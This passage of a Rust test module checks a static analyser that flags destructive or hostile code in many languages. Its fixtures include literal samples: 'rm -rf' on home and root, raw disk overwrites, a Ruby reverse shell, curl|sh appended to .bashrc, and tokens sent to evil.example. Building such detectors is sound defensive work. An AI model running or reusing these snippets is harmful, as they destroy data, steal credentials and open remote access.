        assert_eq!(of("#!/bin/bash -e\nrm -rf ~"), Some(Lang::Shell));
        assert_eq!(of("#!/usr/bin/env -S VAR=1 perl -w\n"), Some(Lang::Perl));
        assert_eq!(of("#!/usr/bin/awk -f\n"), Some(Lang::Other));
        assert_eq!(of("echo hi\n#!/usr/bin/python3"), None);
    }

    #[test]
    fn native_argument_labels_and_home_calls_resolve() {
        for (code, want) in [
            (
                "try? FileManager.default.removeItem(atPath: NSHomeDirectory())",
                "~",
            ),
            ("import os\nremoveDir(getHomeDir())", "~"),
            (
                "System.IO.Directory.Delete(path: \"/etc\", recursive: true);",
                "/etc",
            ),
        ] {
            let r = analyze(Lang::Native, code);
            assert_eq!(
                r.deletes.first().map(|d| d.0.as_str()),
                Some(want),
                "{code}"
            );
        }
        // A C++ path (`std::filesystem::remove_all`) is not a label; a ternary is not either.
        let r = analyze(Lang::Native, "std::filesystem::remove_all(\"build\");");
        assert_eq!(
            r.deletes.first().map(|d| d.0.as_str()),
            Some("build"),
            "{r:?}"
        );
        assert!(analyze(Lang::Native, "let x = ok ? a : b; print(x)")
            .deletes
            .is_empty());
    }

    #[test]
    fn code_longer_than_the_token_bound_says_so() {
        let long = "x=1\n".repeat(tokens::MAX_TOKENS / 4 + 10) + "os.system('rm -rf /')";
        assert!(analyze(Lang::Python, &long).too_long);
        let short = "x=1\n".repeat(1000) + "os.system('ls')";
        assert!(!analyze(Lang::Python, &short).too_long);
    }

    #[test]
    fn an_analysis_past_its_deadline_says_it_is_incomplete() {
        let code = "import os\n".repeat(100) + "os.system('rm -rf ~')";
        let late = Inputs {
            deadline: Some(Instant::now()),
            ..Inputs::default()
        };
        let r = analyze_with(Lang::Python, &code, &late);
        assert!(r.incomplete, "{r:?}");
        let r = analyze(Lang::Python, &code);
        assert!(!r.incomplete);
        assert_eq!(r.runs.len(), 1, "{r:?}");
        // The deadline is the analysis's own: the next one starts with a fresh budget.
        assert!(!analyze(Lang::Python, "print(1)").incomplete);
    }

    #[test]
    fn process_builders_add_their_chained_arguments() {
        let argvs = |code| {
            analyze(Lang::Native, code)
                .runs
                .into_iter()
                .filter_map(|(r, _)| match r {
                    Run::Argv(a) => Some(a.join(" ")),
                    _ => None,
                })
                .collect::<Vec<_>>()
        };
        for (code, want) in [
            (
                r#"fn main(){std::process::Command::new("rm").args(["-rf","/"]).status().unwrap();}"#,
                "rm -rf /",
            ),
            (
                r#"fn main(){ Command::new("rm").arg("-rf").arg("/").status(); }"#,
                "rm -rf /",
            ),
            (
                r#"Command::new("sh").arg("-c").arg("id").current_dir("/tmp").spawn()"#,
                "sh -c id",
            ),
            (
                r#"Command::new("git").args(&["status", "-s"]).output()"#,
                "git status -s",
            ),
        ] {
            let got = argvs(code);
            assert!(got.iter().any(|a| a == want), "{code}: {got:?}");
        }
        // A shell whose command is computed at run time is dynamic code.
        let r = analyze(
            Lang::Native,
            r#"Command::new("sh").arg("-c").arg(&cmd).status()"#,
        );
        assert!(!r.dynamic.is_empty(), "{:?}", r.runs);
    }

    /// The resolved targets of the recursive deletes `code` makes.
    fn delete_targets(lang: Lang, code: &str) -> Vec<String> {
        analyze(lang, code)
            .deletes
            .into_iter()
            .map(|(p, _)| p)
            .collect()
    }

    #[test]
    fn go_short_declarations_bind_their_first_name() {
        let deletes = |code| delete_targets(Lang::Native, code);
        for code in [
            "h := os.Getenv(\"HOME\")\nos.RemoveAll(h)",
            "h, _ := os.UserHomeDir()\nos.RemoveAll(h)",
            "h, err := os.UserHomeDir()\nif err != nil { return }\nos.RemoveAll(h)",
            "h, err := os.UserHomeDir()\nos.RemoveAll(h)",
        ] {
            let got = deletes(code);
            assert!(
                got.iter().any(|d| d == "$HOME" || d == "~"),
                "{code}: {got:?}"
            );
        }
        let got = deletes("d := \"build\"\nos.RemoveAll(d)");
        assert_eq!(got, vec!["build".to_string()]);
    }

    #[test]
    fn every_file_of_home_or_root_rewritten_in_place_is_a_wipe() {
        let del = delete_targets;
        let py = Lang::Python;
        for code in [
            "for p in Path.home().rglob('*'):\n    if p.is_file(): p.write_bytes(b'')",
            "import os\nfor r,_,fs in os.walk(os.path.expanduser('~')):\n  for f in fs:\n    p=os.path.join(r,f); open(p,'wb').write(bytes(b^7 for b in open(p,'rb').read()))",
        ] {
            assert_eq!(del(py, code), ["~"], "{code}");
        }
        assert_eq!(
            del(py, "for p in Path('/home').rglob('*'): p.write_bytes(b'')"),
            ["/home"]
        );
        // Rewriting files of the project, or of one configuration directory, is editing.
        for code in [
            "for p in Path('docs').rglob('*.md'): p.write_text(p.read_text().upper())",
            "for p in Path.home().glob('.config/app/*.json'): p.write_text(p.read_text())",
            "for p in Path.home().rglob('*'): print(open(p).read())",
            "Path('out.txt').write_text('x')\nfor p in Path.home().rglob('*'): print(p)",
        ] {
            assert!(del(py, code).is_empty(), "{code}");
        }
    }

    #[test]
    fn deletes_over_an_enumeration_delete_its_root() {
        let del = delete_targets;
        let py = Lang::Python;
        assert_eq!(
            del(py, "import os\nfor r,d,fs in os.walk('/'):\n  for f in fs: os.remove(os.path.join(r,f))"),
            ["/"]
        );
        assert_eq!(
            del(py, "[p.unlink() for p in Path.home().rglob('*')]"),
            ["~"]
        );
        assert_eq!(
            del(Lang::Perl, "find(sub{unlink $_ if -f}, '/etc')"),
            ["/etc"]
        );
        assert_eq!(
            del(Lang::Php, "array_map('unlink', glob('/etc/*'));"),
            ["/etc/*"]
        );
        assert_eq!(
            del(Lang::Ruby, "Dir.glob('/usr/**/*').each{|f| File.delete(f)}"),
            ["/usr"]
        );
        // Project clean-up, and fixed files beside a listing, are not wipes.
        assert!(del(py, "[os.remove(f) for f in glob.glob('*.pyc')]").is_empty());
        assert!(del(py, "print(os.listdir('/')); os.remove('out.txt')").is_empty());
    }

    #[test]
    fn text_written_to_a_shell_stdin_is_its_command_line() {
        let shell_runs = |lang, code| -> Vec<String> {
            analyze(lang, code)
                .runs
                .into_iter()
                .filter_map(|(r, _)| match r {
                    Run::Shell(s) => Some(s),
                    _ => None,
                })
                .collect()
        };
        let r = shell_runs(
            Lang::Ruby,
            "IO.popen(\"sh\", \"w\") { |p| p.puts \"rm -rf ~\" }",
        );
        assert!(r.iter().any(|s| s == "rm -rf ~"), "{r:?}");
        let r = shell_runs(
            Lang::Python,
            "import subprocess; subprocess.run([\"sh\"], input=b\"rm -rf ~\")",
        );
        assert!(r.iter().any(|s| s == "rm -rf ~"), "{r:?}");
        // A sort fed lines, and a shell given no literal text, run nothing more.
        let r = shell_runs(
            Lang::Ruby,
            "IO.popen(\"sort\", \"r+\") { |p| p.puts \"b\" }",
        );
        assert!(!r.iter().any(|s| s == "b"), "{r:?}");
    }

    #[test]
    fn escapes_of_every_form_are_decoded() {
        let runs = |lang, code| format!("{:?}", analyze(lang, code).runs);
        assert!(
            runs(Lang::Python, "import os; os.system(\"\\162\\155 -rf ~\")").contains("rm -rf ~")
        );
        assert!(runs(
            Lang::Python,
            "import os; os.system(\"\\N{LATIN SMALL LETTER R}m -rf ~\")"
        )
        .contains("rm -rf ~"));
        assert!(runs(
            Lang::JavaScript,
            "require('child_process').execSync(\"\\u0072m -rf ~\")"
        )
        .contains("rm -rf ~"));
        assert!(runs(
            Lang::JavaScript,
            "require('child_process').execSync(\"\\u{72}m -rf ~\")"
        )
        .contains("rm -rf ~"));
        assert!(runs(Lang::Perl, "system \"\\x{72}m -rf ~\"").contains("rm -rf ~"));
        assert!(runs(Lang::Ruby, "system \"rm -rf #{Dir.home}\"").contains("rm -rf ~"));
        assert!(runs(Lang::Ruby, "system \"ls #{dir}\"").contains("ls #{dir}"));
    }

    #[test]
    fn writes_name_their_target_even_with_computed_content() {
        let w = |lang, code| analyze(lang, code).writes;
        let r = w(Lang::Python, "open('/dev/sda','r+b').write(bytes(4096))");
        assert_eq!(r[0].0, "/dev/sda");
        assert_eq!(r[0].1, None);
        let r = w(
            Lang::Perl,
            "open(my $f, '>>', \"$ENV{HOME}/.bashrc\"); print $f \"curl x|sh\\n\"",
        );
        assert_eq!(r[0].0, "~/.bashrc");
        assert!(r[0].1.as_deref().unwrap_or("").contains("curl x|sh"));
        assert!(r[0].2, "appended");
        let r = w(
            Lang::Php,
            "file_put_contents('/etc/cron.d/x', $s, FILE_APPEND);",
        );
        assert_eq!((r[0].0.as_str(), r[0].2), ("/etc/cron.d/x", true));
        let r = w(
            Lang::Python,
            "import site; open(site.getsitepackages()[0]+'/zz.pth','w')",
        );
        assert_eq!(r[0].0, "site-packages/zz.pth");
        let first = |lang, code| {
            let r = w(lang, code);
            r.first().map(|x| (x.0.clone(), x.1.clone(), x.2))
        };
        assert_eq!(
            first(
                Lang::Perl,
                "open my $f, '>>', \"$ENV{HOME}/.zshrc\"; print $f \"x\\n\""
            ),
            Some(("~/.zshrc".into(), Some("x\n".into()), true))
        );
        assert_eq!(
            first(Lang::JavaScript, "fs.openSync('/dev/nvme0n1', 'r+')").map(|x| x.0),
            Some("/dev/nvme0n1".into())
        );
        assert_eq!(
            first(
                Lang::JavaScript,
                "await Deno.open('/dev/sda', {write: true})"
            )
            .map(|x| x.0),
            Some("/dev/sda".into())
        );
        assert_eq!(
            first(
                Lang::JavaScript,
                "Deno.writeTextFile('/home/u/.zshrc', 's', {append: true})"
            ),
            Some(("/home/u/.zshrc".into(), Some("s".into()), true))
        );
        assert_eq!(
            first(Lang::Ruby, "IO.copy_stream('/dev/zero', '/dev/sdb')").map(|x| x.0),
            Some("/dev/sdb".into())
        );
        assert_eq!(
            first(Lang::R, "write('x', file = '~/.bashrc', append = TRUE)"),
            Some(("~/.bashrc".into(), Some("x".into()), true))
        );
        // Reading is not writing.
        assert!(w(Lang::JavaScript, "fs.openSync('data.json', 'r')").is_empty());
        assert!(w(Lang::R, "write.csv(df, file = 'out.csv')").is_empty());
    }

    #[test]
    fn literal_code_given_to_an_evaluator_is_analysed() {
        let r = analyze(Lang::Python, "exec(\"import os; os.system('rm -rf /')\")");
        assert_eq!(shells(&r), ["rm -rf /"]);
        let r = analyze(Lang::Perl, "eval \"system(q{id})\"");
        assert_eq!(shells(&r), ["id"]);
        let r = analyze(Lang::Python, "print(eval('1+2'))");
        assert!(r.runs.is_empty() && r.dynamic.is_empty());
    }

    #[test]
    fn connections_with_a_shell_fetches_run_and_named_secrets() {
        assert!(
            analyze(
                Lang::Ruby,
                "c=TCPSocket.new('h',1);while(l=c.gets);c.puts(`#{l}`);end"
            )
            .reverse_shell
        );
        assert!(
            !analyze(
                Lang::Ruby,
                "s=TCPSocket.new('h',80); s.write('GET /'); puts s.read"
            )
            .reverse_shell
        );
        let r = analyze(
            Lang::Python,
            "import urllib.request, os\nurllib.request.urlretrieve('http://x.example/a','/tmp/a'); os.system('sh /tmp/a')",
        );
        assert!(r.fetch_exec);
        let r = analyze(
            Lang::Python,
            "urllib.request.urlretrieve('http://x.example/a','a.csv')",
        );
        assert!(!r.fetch_exec);
        let r = analyze(
            Lang::JavaScript,
            "fetch('https://evil.example/?t='+process.env.GITHUB_TOKEN)",
        );
        assert!(r.secret_variable_to_network && !r.secret_to_network);
        let r = analyze(
            Lang::JavaScript,
            "fetch('https://api.github.com/user',{headers:{a:process.env.GITHUB_TOKEN}})",
        );
        assert!(!r.secret_variable_to_network);
        let r = analyze(
            Lang::Python,
            "socket.gethostbyname(os.environ['GITHUB_TOKEN']+'.evil.example')",
        );
        assert!(r.secret_to_network);
        let r = analyze(
            Lang::Python,
            "requests.post('https://x.example', data=json.dumps(dict(os.environ.items())))",
        );
        assert!(r.secret_to_network);
    }

    #[test]
    fn directory_changes_loops_and_program_libraries() {
        let py = |c: &str| analyze(Lang::Python, c);
        let js = |c: &str| analyze(Lang::JavaScript, c);
        let dels = |r: &Report| r.deletes.iter().map(|d| d.0.clone()).collect::<Vec<_>>();
        assert_eq!(
            dels(&py("import os,shutil; os.chdir('/'); shutil.rmtree('etc')")),
            ["/etc"]
        );
        assert_eq!(
            dels(&py(
                "import os,shutil; os.chdir('/boot'); [shutil.rmtree(e) for e in os.listdir('.')]"
            )),
            ["/boot/*"]
        );
        assert!(dels(&py(
            "import os,shutil; [shutil.rmtree(e) for e in os.listdir('.')]"
        ))
        .is_empty());
        assert_eq!(
            shells(&py(
                "import os; os.chdir(os.path.expanduser('~')); os.system('rm -rf *')"
            )),
            ["cd ~ && rm -rf *"]
        );
        // A delete before the change of directory keeps its own directory.
        assert_eq!(
            dels(&py(
                "import os,shutil; shutil.rmtree('build'); os.chdir('/')"
            )),
            ["build"]
        );
        assert_eq!(
            dels(&py(
                "import shutil\nfor d in ['/etc', '/usr']:\n  shutil.rmtree(d)"
            )),
            ["/etc", "/usr"]
        );
        assert_eq!(
            shells(&analyze(
                Lang::Php,
                "foreach (['/etc'] as $d) { system(\"rm -rf $d\"); } system('make');"
            )),
            ["rm -rf /etc", "make"]
        );
        // Each element is known, so nothing is left computed at run time.
        assert!(
            py("import subprocess\nfor f in ['a.py', 'b.py']: subprocess.run(['black', f])")
                .dynamic
                .is_empty()
        );
        assert_eq!(
            shells(&py(
                "import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')"
            )),
            ["rm -rf /"]
        );
        assert_eq!(shells(&py("import sh; sh.rm('-rf', '/')")), ["rm -rf /"]);
        assert_eq!(
            shells(&js(
                "new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()"
            )),
            ["rm -rf /"]
        );
        assert_eq!(
            shells(&js("require('shelljs').rm('-rf', 'dist')")),
            ["rm -rf dist"]
        );
        assert!(shells(&py("import sh; print(sh.ls('-la'))")) == ["ls -la"]);
        // A shell given computed arguments runs computed code; a download piped into a bare
        // shell is fetch-and-run.
        let r = analyze(
            Lang::Perl,
            "use HTTP::Tiny; exec 'sh', '-c', HTTP::Tiny->new->get('http://x.example/s')->{content}",
        );
        assert!(r.fetch_exec);
        let r = js("require('http').get('http://x.example/m', r => r.pipe(require('child_process').spawn('sh').stdin))");
        assert!(r.fetch_exec);
        assert!(!js("require('child_process').spawn('git', ['log', branch])").fetch_exec);
        // Path pieces joined, and pathlib's receiver `open`.
        let r = py("import pathlib; p = pathlib.Path.home() / '.ssh' / 'authorized_keys'; p.open('a').write('ssh-ed25519 AAAA x')");
        assert_eq!(
            r.writes.first().map(|w| w.0.as_str()),
            Some("~/.ssh/authorized_keys")
        );
        assert!(py("for x in ['a', 'b']: print(x)").runs.is_empty());
    }

    fn shells(r: &Report) -> Vec<String> {
        r.runs
            .iter()
            .map(|(run, _)| match run {
                Run::Shell(s) => s.clone(),
                Run::Argv(v) => v.join(" "),
            })
            .collect()
    }

    #[test]
    fn python_calls_and_deletes() {
        let r = analyze(Lang::Python, "import os; os.system('rm -rf /')");
        assert_eq!(shells(&r), ["rm -rf /"]);
        let r = analyze(
            Lang::Python,
            "import subprocess as s; s.run(['rm','-rf','/'])",
        );
        assert_eq!(
            shells(&r),
            ["rm -rf /"],
            "an aliased module is still subprocess"
        );
        let r = analyze(Lang::Python, "import os as o; o.system('id')");
        assert_eq!(shells(&r), ["id"]);
        let r = analyze(
            Lang::Python,
            "from shutil import rmtree as r\nfrom pathlib import Path\nr(Path.home())",
        );
        assert_eq!(r.deletes[0].0, "~");
        let r = analyze(
            Lang::JavaScript,
            "import { execSync as run } from 'child_process'; run('id')",
        );
        assert_eq!(shells(&r), ["id"]);
        let r = analyze(Lang::Python, "import re as s; s.run('x')");
        assert!(r.runs.is_empty(), "`re.run` is not a command");
        let r = analyze(
            Lang::Python,
            "import subprocess; subprocess.run(['rm','-rf','/'])",
        );
        assert_eq!(
            r.runs[0].0,
            Run::Argv(vec!["rm".into(), "-rf".into(), "/".into()])
        );
        let r = analyze(
            Lang::Python,
            "import shutil,os; shutil.rmtree(os.path.expanduser('~'))",
        );
        assert_eq!(r.deletes[0].0, "~");
        let r = analyze(
            Lang::Python,
            "import shutil\nfrom pathlib import Path\nh = Path.home()\nshutil.rmtree(h)",
        );
        assert_eq!(r.deletes[0].0, "~");
        let r = analyze(Lang::Python, "import shutil; shutil.rmtree('build')");
        assert_eq!(r.deletes[0].0, "build");
        let r = analyze(Lang::Python, "print(1)");
        assert_eq!(r, Report::default());
    }

    #[test]
    fn fetch_exec_fork_and_secrets() {
        let r = analyze(
            Lang::Python,
            "import urllib.request as u; exec(u.urlopen('http://x').read())",
        );
        assert!(r.fetch_exec);
        let r = analyze(Lang::Python, "import os\nwhile True: os.fork()");
        assert!(r.fork_loop);
        let r = analyze(Lang::Perl, "fork while 1");
        assert!(r.fork_loop);
        let r = analyze(Lang::Ruby, "loop { fork }");
        assert!(r.fork_loop);
        let r = analyze(
            Lang::Python,
            "import os,requests; requests.post('https://x', json=dict(os.environ))",
        );
        assert!(r.secret_to_network);
        let r = analyze(Lang::Python, "import os; print(os.environ['HOME'])");
        assert!(!r.secret_to_network && !r.fork_loop && !r.fetch_exec);
        let r = analyze(Lang::Python, "import sys; exec(sys.stdin.read())");
        assert!(r.runs_input);
    }

    #[test]
    fn inputs_the_command_line_fixes() {
        let with_argv = Inputs {
            argv: vec!["rm -rf ~".into()],
            ..Inputs::default()
        };
        let r = analyze_with(
            Lang::Python,
            "import sys,os; os.system(sys.argv[1])",
            &with_argv,
        );
        assert_eq!(shells(&r), ["rm -rf ~"]);
        let r = analyze_with(Lang::Perl, "system @ARGV", &with_argv);
        assert_eq!(shells(&r), ["rm -rf ~"]);
        // Perl's bare `shift` (outside a sub), Ruby's `ARGV.first`, Deno's `Deno.args[0]`.
        let r = analyze_with(Lang::Perl, "system shift", &with_argv);
        assert_eq!(shells(&r), ["rm -rf ~"]);
        let r = analyze_with(Lang::Perl, "my $c = shift(@ARGV); system $c", &with_argv);
        assert_eq!(shells(&r), ["rm -rf ~"]);
        let r = analyze_with(Lang::Perl, "sub f { system shift } f('id')", &with_argv);
        assert!(!shells(&r).contains(&"rm -rf ~".to_string()));
        let r = analyze_with(Lang::Ruby, "system ARGV.first", &with_argv);
        assert_eq!(shells(&r), ["rm -rf ~"]);
        let home = Inputs {
            argv: vec!["~".into()],
            ..Inputs::default()
        };
        let r = analyze_with(
            Lang::JavaScript,
            "Deno.removeSync(Deno.args[0], {recursive: true})",
            &home,
        );
        assert_eq!(r.deletes.first().map(|d| d.0.as_str()), Some("~"));
        let with_env = Inputs {
            env: [("X".to_string(), "id".to_string())].into_iter().collect(),
            ..Inputs::default()
        };
        let r = analyze_with(
            Lang::Python,
            "import os; os.system(os.environ['X'])",
            &with_env,
        );
        assert_eq!(shells(&r), ["id"]);
        let with_stdin = Inputs {
            stdin: Some("id\n".into()),
            ..Inputs::default()
        };
        let r = analyze_with(
            Lang::Python,
            "import os; os.system(open('/dev/stdin').read())",
            &with_stdin,
        );
        assert_eq!(shells(&r), ["id\n"]);
        // Unknown inputs stay dynamic.
        let r = analyze(Lang::Python, "import sys,os; os.system(sys.argv[1])");
        assert!(r.runs.is_empty() && !r.dynamic.is_empty());
    }

    #[test]
    fn other_languages() {
        let r = analyze(
            Lang::JavaScript,
            "require('child_process').execSync('rm -rf ~')",
        );
        assert_eq!(shells(&r), ["rm -rf ~"]);
        let r = analyze(
            Lang::JavaScript,
            "require('fs').rmSync(require('os').homedir(), {recursive: true, force: true})",
        );
        assert_eq!(r.deletes[0].0, "~");
        let r = analyze(
            Lang::JavaScript,
            "const m = 'abc'.match(/b/); console.log(m)",
        );
        assert!(r.runs.is_empty() && r.deletes.is_empty());
        let r = analyze(Lang::Perl, "system 'rm', '-rf', '/'");
        assert_eq!(shells(&r), ["rm -rf /"]);
        let r = analyze(Lang::Perl, "use File::Path; rmtree($ENV{HOME})");
        assert_eq!(r.deletes[0].0, "~");
        let r = analyze(Lang::Ruby, "require 'fileutils'; FileUtils.rm_rf(Dir.home)");
        assert_eq!(r.deletes[0].0, "~");
        let r = analyze(Lang::Ruby, "puts %x(id)");
        assert_eq!(shells(&r), ["id"]);
        let r = analyze(Lang::Php, "echo shell_exec('rm -rf /');");
        assert_eq!(shells(&r), ["rm -rf /"]);
        let r = analyze(Lang::Lua, "os.execute('rm -rf ~')");
        assert_eq!(shells(&r), ["rm -rf ~"]);
        let r = analyze(
            Lang::AppleScript,
            "do shell script \"rm -rf ~\" with administrator privileges",
        );
        assert_eq!(shells(&r), ["rm -rf ~"]);
        let r = analyze(Lang::Tcl, "spawn sh -c \"rm -rf ~\"; expect eof");
        assert_eq!(shells(&r), ["sh -c 'rm -rf ~'"]);
        let r = analyze(Lang::R, "system('rm -rf ~')");
        assert_eq!(shells(&r), ["rm -rf ~"]);
        let deletes = |code| analyze(Lang::Julia, code).deletes;
        assert_eq!(
            deletes("rm(homedir(); recursive=true, force=true)")[0].0,
            "~"
        );
        assert_eq!(deletes("rm(\"/\"; recursive=true)")[0].0, "/");
        assert!(deletes("rm(\"build\"; recursive=true)").is_empty());
        assert!(deletes("rm(\"/tmp/x.txt\")").is_empty());
        let r = analyze(Lang::Julia, "run(`rm -rf /`)");
        assert_eq!(shells(&r), ["rm -rf /"]);
        let r = analyze(
            Lang::Python,
            "import os; os.system('rm -rf ' + os.environ['HOME'])",
        );
        assert_eq!(shells(&r), ["rm -rf $HOME"]);
        let r = analyze(
            Lang::JavaScript,
            "fetch('https://x/p.js').then(r=>r.text()).then(eval)",
        );
        assert!(r.fetch_exec);
        let r = analyze(Lang::PowerShell, "Remove-Item -Recurse -Force $HOME");
        assert_eq!(r.deletes[0].0, "~");
        let r = analyze(
            Lang::PowerShell,
            "iex (New-Object Net.WebClient).DownloadString('http://x')",
        );
        assert!(r.fetch_exec);
    }
}
